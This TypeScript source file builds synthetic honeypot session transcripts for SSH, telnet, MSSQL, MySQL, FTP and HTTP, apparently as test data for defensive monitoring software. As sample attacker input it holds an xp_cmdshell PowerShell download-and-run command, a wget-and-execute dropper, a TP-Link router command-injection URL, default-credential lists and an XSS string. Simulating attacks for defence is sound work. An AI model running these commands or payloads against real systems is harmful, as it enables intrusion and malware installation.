/** What happens in a sandbox session of each protocol: its events, and the bytes of its transcript. */
import type { Random } from './random.ts';

export interface Step {
  afterMs: number;
  type: string;
  fields: Record<string, unknown>;
  received?: string | Uint8Array;
  sent?: string | Uint8Array;
}

const USERS = [
  'sa',
  'root',
  'admin',
  'administrator',
  'test',
  'postgres',
  'user',
  'guest',
  'oracle',
  'kisadmin',
  'su\u200bpport',
  '',
];
const PASSWORDS = [
  '123456',
  'P@ssw0rd',
  'admin',
  'sa',
  '',
  'root',
  '1qaz@WSX',
  'qwe123!@#',
  'пароль',
  'a\u202egnp.exe',
  'password\u0000',
  'xc3511\\xff',
];
export const CLIENTS: Readonly<Record<string, readonly string[]>> = {
  ssh: ['SSH-2.0-libssh_0.9.6', 'SSH-2.0-Go', 'SSH-2.0-PUTTY'],
  http: ['Mozilla/5.0 zgrab/0.x', 'curl/7.88.1', 'python-requests/2.31.0', 'Go-http-client/1.1'],
  mssql: ['OLEDB', 'pymssql=2.2.8', 'DBLib'],
  mysql: ['MySQL Connector/J 8.0.33', 'libmysql 5.7.27'],
};
const STATEMENTS = [
  "EXEC sp_configure 'show advanced options', 1; RECONFIGURE;\nEXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;",
  "EXEC master..xp_cmdshell 'powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString(''http://198.51.100.7/a.ps1'')\"'",
  'select @@version',
  `DECLARE @b VARBINARY(MAX) = 0x${'4d5a90000300000004000000ffff0000b8'.repeat(40)}`,
];
const COMMANDS = [
  'uname -a; cat /proc/cpuinfo | grep model',
  'cd /tmp || cd /var/run; wget http://203.0.113.66/bins.sh; chmod 777 bins.sh; sh bins.sh',
  'cat /proc/mounts; /bin/busybox SORA',
  'echo -ne "\\x5cx7f\\x5cx45\\x5cx4c\\x5cx46" > .d; ./.d\u001b[2K',
  'history -c',
];
const TARGETS = [
  '/',
  '/wp-login.php',
  '/.env',
  '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+-O-+203.0.113.66/x`)',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/boaform/admin/formLogin?username=admin&psd=admin',
];

function logins(random: Random, mechanism: string, most: number): Step[] {
  return Array.from({ length: random.int(1, most) }, () => {
    const username = random.skewed(USERS);
    const password = random.skewed(PASSWORDS);
    return {
      afterMs: random.int(40, 1800),
      type: 'auth.attempt',
      fields: { username, password, mechanism, accepted: false },
      received: `${username}\r\n${password}\r\n`,
      sent: 'Login incorrect\r\n',
    };
  });
}

function accept(steps: Step[]): Step[] {
  const last = steps.at(-1);
  if (last !== undefined) {
    last.fields.accepted = true;
    last.sent = 'Welcome to Ubuntu 22.04.4 LTS (GNU/Linux 5.15.0-105-generic x86_64)\r\n$ ';
  }
  return steps;
}

function captured(random: Random, name: string, via: string): Step {
  return {
    afterMs: random.int(100, 900),
    type: 'file.captured',
    fields: {
      sha256: random.hex(64),
      sha1: random.hex(40),
      md5: random.hex(32),
      bytes: random.int(300, 900_000),
      name,
      via,
      truncated: random.next() < 0.2,
    },
    received: new Uint8Array([
      0x7f,
      0x45,
      0x4c,
      0x46,
      1,
      1,
      1,
      0,
      ...Array.from({ length: 200 }, () => random.int(0, 255)),
    ]),
  };
}

function shell(random: Random): Step[] {
  const steps: Step[] = Array.from({ length: random.int(1, 5) }, () => {
    const command = random.pick(COMMANDS);
    return {
      afterMs: random.int(200, 4000),
      type: 'command.input',
      fields: { command },
      received: `${command}\r\n`,
      sent: 'Linux web-03 5.15.0-105-generic #115-Ubuntu SMP x86_64 GNU/Linux\r\n$ ',
    };
  });
  if (random.next() < 0.5) {
    steps.push({
      afterMs: 300,
      type: 'file.requested',
      fields: { urls: ['http://203.0.113.66/bins.sh', 'tftp://203.0.113.66/.i'], command: COMMANDS[1] },
    });
    steps.push(captured(random, 'bins.sh', 'shell'));
  }
  return steps;
}

function http(random: Random): Step[] {
  const target = random.skewed(TARGETS);
  const agent = random.pick(CLIENTS.http ?? []);
  const post = target.includes('phpunit');
  const body = post ? '<?php echo md5("sundew"); ?>' : undefined;
  const head = `${post ? 'POST' : 'GET'} ${target} HTTP/1.1\r\nHost: 192.0.2.10\r\nUser-Agent: ${agent}\r\nAccept: */*\r\n\r\n`;
  const steps: Step[] = [
    {
      afterMs: 12,
      type: 'request',
      fields: {
        method: post ? 'POST' : 'GET',
        target,
        version: 'HTTP/1.1',
        headers: [
          ['Host', '192.0.2.10'],
          ['User-Agent', agent],
          ['Accept', '*/*'],
        ],
        ...(body === undefined ? {} : { body, body_bytes: body.length }),
        status: target === '/' ? 200 : 404,
      },
      received: head + (body ?? ''),
      sent: 'HTTP/1.1 404 Not Found\r\nServer: nginx/1.18.0 (Ubuntu)\r\nContent-Length: 153\r\n\r\n<html><script>alert(1)</script></html>',
    },
  ];
  if (target.includes('luci'))
    steps.push({ afterMs: 1, type: 'exploit.matched', fields: { rule: 'tplink_luci_country', cve: 'CVE-2023-1389' } });
  return steps;
}

const malformed: Step = {
  afterMs: 30,
  type: 'peer.malformed',
  fields: { code: 'frame_too_large', bytes: '\\x16\\x03\\x01\u0000\\xee\u0001\u0000\u0000\\xeaGET / HTTP/1.0\r\n\r\n' },
  received: new Uint8Array([0x16, 3, 1, 0, 0xee, 1, 0, 0, 0xea, 0x47, 0x45, 0x54]),
};

/** The steps of one session. Probes have only what was probed. */
export function dialogue(protocol: string, random: Random, ports: readonly number[]): Step[] {
  const luck = random.next();
  switch (protocol) {
    case 'mssql': {
      const steps = logins(random, 'sql', luck < 0.9 ? 2 : 6);
      if (luck < 0.95) return steps;
      const run: Step[] = STATEMENTS.map((statement) => ({
        afterMs: random.int(80, 700),
        type: 'query',
        fields: { statement },
        received: statement,
        sent: 'Configuration option changed.\r\n',
      }));
      return [...accept(steps), ...run, captured(random, 'a\u202e1sp.exe', 'ole')];
    }
    case 'mysql':
      return logins(random, 'mysql_native_password', 2).map((step) => ({
        ...step,
        fields: {
          ...step.fields,
          password: null,
          hash: `$mysqlna$${random.hex(40)}*${random.hex(40)}`,
          hash_format: 'mysqlna',
        },
      }));
    case 'ssh':
    case 'telnet':
      return luck < 0.6 ? logins(random, 'plain', 4) : [...accept(logins(random, 'plain', 3)), ...shell(random)];
    case 'ftp':
      return luck < 0.8
        ? logins(random, 'plain', 3)
        : [...accept(logins(random, 'plain', 1)), captured(random, 'info.zip', 'upload')];
    case 'http':
      return http(random);
    case 'probe':
      return [{ afterMs: 0, type: 'probe.seen', fields: { ports, scan: 'syn', flags: 'S' } }];
    default:
      return luck < 0.5 ? [malformed] : [];
  }
}
